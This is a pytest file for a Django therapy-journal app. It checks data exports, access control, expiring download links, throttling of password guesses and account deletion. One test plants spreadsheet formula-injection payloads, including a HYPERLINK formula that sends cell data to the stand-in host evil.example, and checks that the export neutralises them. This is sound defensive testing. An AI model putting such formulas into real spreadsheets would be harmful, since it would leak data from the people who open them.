"""Data export: every model holding client data, nothing of anyone else's, expiring link."""

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
import time_machine
from django.apps import apps
from django.utils import timezone

from accounts.exports import EXPORTED, NOT_EXPORTED, models_mentioning_users
from accounts.models import DataExport, OutboxMessage, User
from journal.models import CheckIn, MedicationEvent
from tests.conftest import verified_login

pytestmark = pytest.mark.django_db

OUR_APPS = {"accounts", "journal", "therapists", "companion"}


def test_every_model_is_exported_or_excluded_with_a_reason():
    ours = {m._meta.label_lower for m in apps.get_models() if m._meta.app_label in OUR_APPS}
    mentioning = set(models_mentioning_users())
    missing = (ours | mentioning) - set(EXPORTED) - set(NOT_EXPORTED)
    assert not missing, (
        f"add these to accounts/exports.py EXPORTED or NOT_EXPORTED: {sorted(missing)}"
    )
    assert not set(EXPORTED) & set(NOT_EXPORTED)
    for label in EXPORTED:
        apps.get_model(label)  # every label names a real model


def _build(api, client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = api.as_(client).post("/api/v1/exports/")
    assert response.status_code == 202
    return response.json()


def test_export_holds_the_clients_data_and_nothing_else(
    api, client_a, client_b, django_capture_on_commit_callbacks
):
    now = timezone.now()
    CheckIn.objects.create(
        client=client_a,
        occurred_at=now,
        local_date=timezone.localdate(),
        felt_intensity=4,
        note="canary-mine",
    )
    CheckIn.objects.create(
        client=client_b,
        occurred_at=now,
        local_date=timezone.localdate(),
        felt_intensity=4,
        note="canary-theirs",
    )
    MedicationEvent.objects.create(
        client=client_a, medication="Sertraline", kind="start", occurred_on=timezone.localdate()
    )
    started = _build(api, client_a, django_capture_on_commit_callbacks)
    assert started["status"] in {"pending", "running", "done"}
    assert OutboxMessage.objects.filter(task_name="accounts.tasks.build_export").exists()
    detail = api.as_(client_a).get(f"/api/v1/exports/{started['id']}/").json()
    assert detail["status"] == "done"
    assert detail["progress"] == 100
    assert detail["download_url"].endswith(f"/api/v1/exports/{started['id']}/download/")
    response = api.as_(client_a).get(f"/api/v1/exports/{started['id']}/download/")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    data = json.loads(archive.read("data.json"))
    everything = json.dumps(data)
    assert "canary-mine" in everything
    assert "canary-theirs" not in everything
    assert "client.b@example.test" not in everything
    assert "password" not in data["accounts.user"][0]
    assert data["journal.medicationevent"][0]["medication"] == "Sertraline"
    assert "spreadsheets/checkins.csv" in archive.namelist()
    assert "canary-mine" in archive.read("spreadsheets/checkins.csv").decode("utf-8-sig")
    assert "canary-theirs" not in b"".join(archive.read(n) for n in archive.namelist()).decode(
        "utf-8", "replace"
    )


def _sheet(archive, name):
    text = archive.read(f"spreadsheets/{name}").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_spreadsheets_are_for_people(
    api, client_a, therapist_a, django_capture_on_commit_callbacks
):
    """Names instead of ids, labels instead of codes, the client's own local times, a
    README; the machine-readable JSON stays beside them."""
    from journal.services.checkins import RatingInput, checkin_create
    from journal.services.medications import medication_event_create

    when = datetime(2026, 11, 28, 18, 30, tzinfo=UTC)  # 19:30 in Berlin
    with time_machine.travel(when + timedelta(hours=1), tick=False):
        checkin_create(
            client=client_a,
            felt_intensity=2,
            emotions=[RatingInput("numb", 7), RatingInput("tired", 4)],
            symptoms={"autopilot": 3},
            triggers=["poor_sleep"],
            occurred_at=when,
        )
        medication_event_create(
            client=client_a,
            medication="Sertraline",
            kind="side_effect",
            side_effect="blunting",
            occurred_on=date(2026, 11, 27),
        )
        started = _build(api, client_a, django_capture_on_commit_callbacks)
        response = api.as_(client_a).get(f"/api/v1/exports/{started['id']}/download/")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = archive.namelist()
    assert "README.txt" in names and "data.json" in names
    assert not [n for n in names if n.startswith("csv/") or "journal." in n]
    header, row = _sheet(archive, "checkins.csv")
    record = dict(zip(header, row, strict=True))
    assert record["When"] == "2026-11-28 19:30"  # Berlin, client A's time zone
    assert record["Feelings (strength 0-10)"] == "Numb (7); Tired (4)"
    assert record["I felt like I was on autopilot"] == "A lot"
    assert record["Going on"] == "Poor sleep"
    [header, row] = _sheet(archive, "medications.csv")
    assert row[2:5] == ["Side effect noticed", "", "Emotional blunting / numbness"]
    care = _sheet(archive, "care_team.csv")
    assert care[1][0] == therapist_a.display_name
    readme = archive.read("README.txt").decode()
    assert "checkins.csv" in readme and "Europe/Berlin" in readme
    assert archive.read("spreadsheets/checkins.csv").startswith(b"\xef\xbb\xbf")  # Excel's UTF-8


def test_text_a_spreadsheet_would_run_is_shown_as_text(
    api, client_a, django_capture_on_commit_callbacks
):
    """A homework title or medication name someone else could write must not become a
    formula in the client's spreadsheet (attacker run: =HYPERLINK, @SUM)."""
    from journal.services.medications import medication_event_create

    for name in ('=HYPERLINK("http://evil.example/?d="&B2,"Open")', "@SUM(1)", "+1", "-2+3"):
        medication_event_create(
            client=client_a, medication=name, kind="start", occurred_on=date(2026, 11, 27)
        )
    started = _build(api, client_a, django_capture_on_commit_callbacks)
    response = api.as_(client_a).get(f"/api/v1/exports/{started['id']}/download/")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    header, *rows = _sheet(archive, "medications.csv")
    names = sorted(row[header.index("Medication")] for row in rows)
    # A plain number is left as it is (a spreadsheet reads "+1" as 1, nothing runs).
    assert names == ["'-2+3", '\'=HYPERLINK("http://evil.example/?d="&B2,"Open")', "'@SUM(1)", "+1"]
    data = json.loads(archive.read("data.json"))
    assert "@SUM(1)" in json.dumps(data)  # the JSON keeps what was written


def test_others_cannot_read_or_download(
    api, client_a, client_b, therapist_a, django_capture_on_commit_callbacks
):
    started = _build(api, client_a, django_capture_on_commit_callbacks)
    assert api.as_(client_b).get(f"/api/v1/exports/{started['id']}/").status_code == 404
    assert api.as_(client_b).get(f"/api/v1/exports/{started['id']}/download/").status_code == 404
    assert api.as_(therapist_a).get(f"/api/v1/exports/{started['id']}/").status_code == 403


def test_the_link_expires(api, client_a, django_capture_on_commit_callbacks):
    started = _build(api, client_a, django_capture_on_commit_callbacks)
    DataExport.objects.filter(pk=started["id"]).update(
        expires_at=timezone.now() - timedelta(seconds=1)
    )
    assert api.as_(client_a).get(f"/api/v1/exports/{started['id']}/").json()["download_url"] is None
    assert api.as_(client_a).get(f"/api/v1/exports/{started['id']}/download/").status_code == 404


def test_portal_privacy_page(client, client_a, therapist_a):
    client.force_login(client_a)
    html = client.get("/accounts/privacy/").content.decode()
    assert "Dr. Ada" in html
    assert "Get a copy of your data" in html
    client.post("/accounts/privacy/", {"action": "export"})
    assert DataExport.objects.filter(client=client_a).exists()
    html = client.get("/accounts/privacy/").content.decode()
    assert "<progress" in html or "Download" in html


def test_portal_delete_account(client, client_a, password):
    client.force_login(client_a)
    response = client.post("/accounts/privacy/", {"action": "delete", "password": "wrong"})
    assert "not correct" in response.content.decode()
    client.post("/accounts/privacy/", {"action": "delete", "password": password})
    assert not type(client_a).objects.filter(pk=client_a.pk).exists()


def test_guessing_the_password_to_delete_is_slowed_down(api, client, client_a, password, settings):
    """A stolen session or token must not become a password oracle (attacker run: 58
    wrong passwords in a row, all answered)."""
    settings.COMPANION_THROTTLE_RATES = {
        **settings.COMPANION_THROTTLE_RATES,
        "password-confirm": "3/hour",
    }
    for _ in range(3):
        wrong = api.as_(client_a).delete("/api/v1/me/", {"password": "guess"}, format="json")
        assert wrong.status_code == 400 and "password" in wrong.json()
    blocked = api.as_(client_a).delete("/api/v1/me/", {"password": password}, format="json")
    assert blocked.status_code == 429 and "Retry-After" in blocked
    client.force_login(client_a)
    page = client.post("/accounts/privacy/", {"action": "delete", "password": password})
    assert page.status_code == 429
    assert User.objects.filter(pk=client_a.pk, is_active=True).exists()


def test_a_therapist_deleting_their_account_is_told_what_goes_and_what_stays(
    client, therapist_a, client_a, password
):
    """The page's promise, checked: the connection, invitations, schedules and private
    templates go; what they wrote in the client's record stays, without their name."""
    from journal.models import AssessmentSchedule, HomeworkAssignment, HomeworkTemplate
    from tests.journal.factories import AssignmentFactory, ScheduleFactory, TemplateFactory
    from therapists.models import Flag, FlagNote, MedicationNote

    flag = Flag.objects.create(
        client=client_a, kind="blunting", level="flagged", raised_at=timezone.now()
    )
    FlagNote.objects.create(flag=flag, therapist=therapist_a, note="seen", action="acknowledge")
    MedicationNote.objects.create(therapist=therapist_a, client=client_a, text="ask the GP")
    AssignmentFactory(client=client_a, therapist=therapist_a)
    TemplateFactory(owner=therapist_a)
    ScheduleFactory(client=client_a, therapist=therapist_a)
    verified_login(client, therapist_a)
    page = client.get("/accounts/privacy/").content.decode()
    assert "Your clients are no longer connected with you" in page
    assert "check-ins, notes, homework, medications and assessments" not in page
    client.post("/accounts/privacy/", {"action": "delete", "password": password})
    assert not User.objects.filter(pk=therapist_a.pk).exists()
    assert not User.objects.clients_of(therapist_a).exists()
    assert not HomeworkTemplate.objects.filter(owner_id=therapist_a.pk).exists()
    assert not AssessmentSchedule.objects.filter(client=client_a).exists()
    assert FlagNote.objects.get().therapist is None and FlagNote.objects.get().note == "seen"
    assert MedicationNote.objects.get().therapist is None
    assert HomeworkAssignment.objects.get(client=client_a).therapist is None
